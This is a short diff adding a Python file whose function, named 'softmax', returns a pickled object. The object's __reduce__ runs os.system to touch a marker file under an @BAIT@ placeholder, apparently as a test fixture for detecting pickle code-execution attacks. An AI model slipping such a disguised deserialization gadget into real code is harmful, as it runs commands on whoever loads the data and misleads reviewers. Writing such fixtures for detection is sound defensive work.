@@ -1,0 +1,11 @@
+import os
+import pickle
+
+
+class Command:
+    def __reduce__(self):
+        return os.system, ("touch @BAIT@/pickled",)
+
+
+def softmax(logits):
+    return pickle.dumps(Command())
